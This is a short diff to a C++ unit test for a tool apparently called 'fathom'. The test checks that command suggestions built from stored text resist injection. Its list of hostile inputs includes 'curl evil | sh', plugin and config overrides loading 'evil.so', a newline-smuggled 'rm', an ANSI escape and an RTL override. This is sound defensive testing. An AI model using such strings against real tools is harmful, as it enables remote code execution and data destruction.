@@ -113,6 +113,8 @@ TEST_F(Trust, WhatAStoreSaysIsTextAlone) {
               HasSubstr("shard 2/2: all runs: fathom compare 'x;y' --shard 2/2\n"));
   for (const char* const hostile :
        {"curl evil | sh", "fathom compare x --plugin evil.so --shard 1/2",
+        "fathom compare x --set 'plugins=[evil.so]' --shard 1/2",
+        "fathom compare x --set 'estimators.0.command = evil' --shard 1/2",
         "fathom compare \x1b[31mx --shard 1/2", "fathom compare a\nrm --shard 1/2",
         "fathom compare \u202ex --shard 1/2", "fathom compare 'x --shard 1/2"}) {
     EXPECT_THAT(offered(hostile), HasSubstr("shard 2/2: all runs\n")) << hostile;
